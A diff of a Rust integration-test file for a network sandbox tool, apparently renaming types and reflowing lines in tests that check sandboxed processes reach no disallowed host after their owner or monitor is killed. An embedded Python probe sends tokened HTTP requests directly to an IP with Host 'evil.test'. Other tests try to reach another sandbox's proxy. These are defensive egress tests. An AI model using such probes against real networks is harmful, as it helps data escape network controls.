@@ -5,15 +5,15 @@ use std::path::Path;
 use std::process::{Child, Output, Stdio};
 use std::time::{Duration, Instant};
 
-use conformance::{Caller, Place, Ring, Stage, World};
+use conformance::{BackendRing, Caller, CallerPlace, SimulatedWorld, TestStage};
 use ringfence_test_ledger::{binary, require};
 use serde_json::Value;
 use tempfile::TempDir;
 
-const NATIVE: Stage = Stage { ring: Ring::Native, caller: Caller::Root };
-const BWRAP: Stage = Stage { ring: Ring::Bwrap, caller: Caller::Root };
+const NATIVE: TestStage = TestStage { ring: BackendRing::Native, caller: Caller::Root };
+const BWRAP: TestStage = TestStage { ring: BackendRing::Bwrap, caller: Caller::Root };
 /// Time limit for each wait on a busy host.
-const PATIENCE: Duration = Duration::from_secs(60);
+const WAIT_TIMEOUT: Duration = Duration::from_secs(60);
 
 /// Program that repeatedly asks the proxy for a page of an allowed host, and a server directly.
 const RESTLESS: &str = "
@@ -27,7 +27,8 @@ while True:
         pass
     try:
         with socket.create_connection(('11.22.33.66', 80), timeout=5) as stream:
-            stream.sendall(f'GET /{token}-direct-{number} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'.encode())
+            stream.sendall(f'GET /{token}-direct-{number} HTTP/1.1\\r\\nHost: \
+            evil.test\\r\\n\\r\\n'.encode())
     except OSError:
         pass
 ";
@@ -55,22 +56,22 @@ fn said(output: &Output) -> String {
 
 /// Returns the number of arrivals so far that contain a text.
 fn count(text: &str) -> usize {
-    World::shared().so_far(text).len()
+    SimulatedWorld::shared().so_far(text).len()
 }
 
 #[track_caller]
 fn wait_until(what: &str, is_so: impl Fn() -> bool) {
     let begun = Instant::now();
     while !is_so() {
-        assert!(begun.elapsed() < PATIENCE, "waited in vain until {what}");
+        assert!(begun.elapsed() < WAIT_TIMEOUT, "waited in vain until {what}");
         std::thread::sleep(Duration::from_millis(10));
     }
 }
 
 /// A process that is killed when the value is dropped.
-struct Ended(Child);
+struct KilledOnDrop(Child);
 
-impl Drop for Ended {
+impl Drop for KilledOnDrop {
     fn drop(&mut self) {
         let _ = self.0.kill(); // the process may have ended
         let _ = self.0.wait(); // the process may have ended
@@ -82,18 +83,19 @@ impl Drop for Ended {
 /// unread, because the program makes one request after the other.
 #[track_caller]
 fn nothing_leaves(token: &str) {
-    let before = World::shared().arrivals(token).len();
+    let before = SimulatedWorld::shared().arrivals(token).len();
     std::thread::sleep(Duration::from_millis(500));
     assert!(count(token) <= before + 1, "something leaves although nobody owns it");
     assert_eq!(count(&format!("{token}-direct")), 0, "the direct way was open");
 }
 
 #[track_caller]
-fn nothing_leaves_after_a_kill(stage: Stage, name: &str) {
-    let (place, token) = (Place::on_the_host_of(World::shared(), stage.caller), token(name));
+fn nothing_leaves_after_a_kill(stage: TestStage, name: &str) {
+    let (place, token) =
+        (CallerPlace::for_host_of(SimulatedWorld::shared(), stage.caller), token(name));
     let mut command = stage.ringfence("run", &place);
     command.args(["--allow", "good.test", "--", "python3", "-c", RESTLESS, &token]);
-    let mut ringfence = Ended(
+    let mut ringfence = KilledOnDrop(
         command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("it can be started"),
     );
     wait_until("the sandbox has reached the allowed host", || {
@@ -105,37 +107,43 @@ fn nothing_leaves_after_a_kill(stage: Stage, name: &str) {
 }
 
 #[test]
-fn nothing_leaves_a_native_sandbox_whose_owner_is_killed() {
+fn a_native_sandbox_with_a_killed_owner_reaches_no_host() {
     require!(root, binary, python3, own_network, user_namespaces);
     nothing_leaves_after_a_kill(NATIVE, "killednative");
 }
 
 #[test]
-fn nothing_leaves_a_bubblewrap_sandbox_whose_owner_is_killed() {
+fn a_bubblewrap_sandbox_with_a_killed_owner_reaches_no_host() {
     require!(root, binary, python3, own_network, user_namespaces, bwrap);
     nothing_leaves_after_a_kill(BWRAP, "killedbwrap");
 }
 
 #[test]
-fn nothing_leaves_a_container_whose_owner_is_killed() {
+fn a_container_with_a_killed_owner_reaches_no_host() {
     require!(root, binary, python3, own_network, ordinary_user, docker, podman, test_image_dev);
-    for (ring, name) in [(Ring::Docker, "killeddocker"), (Ring::Podman, "killedpodman")] {
-        nothing_leaves_after_a_kill(Stage { ring, caller: Caller::Ordinary }, name);
+    for (ring, name) in
+        [(BackendRing::Docker, "killeddocker"), (BackendRing::Podman, "killedpodman")]
+    {
+        nothing_leaves_after_a_kill(TestStage { ring, caller: Caller::Ordinary }, name);
     }
 }
 
 /// A sandbox that stays, on the host of the world, with its own home.
-struct Kept {
-    place: Place,
+struct StayingSandbox {
+    place: CallerPlace,
     home: TempDir,
     name: &'static str,
 }
 
-impl Kept {
+impl StayingSandbox {
     #[track_caller]
-    fn up(name: &'static str, flags: &[&str]) -> Kept {
+    fn up(name: &'static str, flags: &[&str]) -> StayingSandbox {
         let home = tempfile::tempdir().expect("a temporary directory can be made");
-        let kept = Kept { place: Place::on_the_host_of(World::shared(), Caller::Root), home, name };
+        let kept = StayingSandbox {
+            place: CallerPlace::for_host_of(SimulatedWorld::shared(), Caller::Root),
+            home,
+            name,
+        };
         let output = NATIVE
             .ringfence("up", &kept.place)
             .arg(name)
@@ -190,21 +198,22 @@ impl Kept {
     }
 }
 
-impl Drop for Kept {
+impl Drop for StayingSandbox {
     fn drop(&mut self) {
         self.ringfence(&["stop", self.name]);
     }
 }
 
 #[test]
-fn nothing_leaves_a_sandbox_that_stays_after_its_monitor_is_killed() {
+fn a_sandbox_with_a_killed_monitor_reaches_no_host() {
     require!(root, binary, python3, own_network, user_namespaces);
-    let (kept, token) = (Kept::up("restless", &["--allow", "good.test"]), token("monitor"));
+    let (kept, token) =
+        (StayingSandbox::up("restless", &["--allow", "good.test"]), token("monitor"));
     let mut command = NATIVE.command(binary(), &kept.place);
     command
         .args(["exec", kept.name, "--", "python3", "-c", RESTLESS, &token])
         .env("HOME", kept.home());
-    let _exec = Ended(
+    let _exec = KilledOnDrop(
         command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("it can be started"),
     );
     wait_until("the sandbox has reached the allowed host", || {
@@ -236,7 +245,7 @@ except OSError as error:
 #[test]
 fn a_sandbox_does_not_reach_the_proxy_of_another() {
     require!(root, binary, python3, own_network, user_namespaces);
-    let kept = Kept::up("neighbour", &["--allow", "*.evil.test"]);
+    let kept = StayingSandbox::up("neighbour", &["--allow", "*.evil.test"]);
     let proxy = said(&kept.exec(&["sh", "-c", "printf %s $HTTP_PROXY"]));
     let own = token("own");
     let reached = kept.exec(&["python3", "-c", FETCH, &format!("http://{own}.evil.test/")]);
@@ -244,7 +253,7 @@ fn a_sandbox_does_not_reach_the_proxy_of_another() {
 
     let sockets = kept.sockets();
     assert!(!sockets.is_empty(), "there is something to reach");
-    let place = Place::on_the_host_of(World::shared(), Caller::Root);
+    let place = CallerPlace::for_host_of(SimulatedWorld::shared(), Caller::Root);
     let others = token("others");
     let words = [
         &["python3", "-c", NEIGHBOUR, &others],
@@ -266,6 +275,6 @@ fn a_sandbox_does_not_reach_the_proxy_of_another() {
     let outside = self::said(&outside.expect("python3 can be started"));
     assert!(outside.starts_with(&"connected\n".repeat(sockets.len())), "they are there: {outside}");
 
-    assert!(World::shared().places_of(&own).contains("evil"));
-    assert_eq!(World::shared().places_of(&others), BTreeSet::new());
+    assert!(SimulatedWorld::shared().places_of(&own).contains("evil"));
+    assert_eq!(SimulatedWorld::shared().places_of(&others), BTreeSet::new());
 }
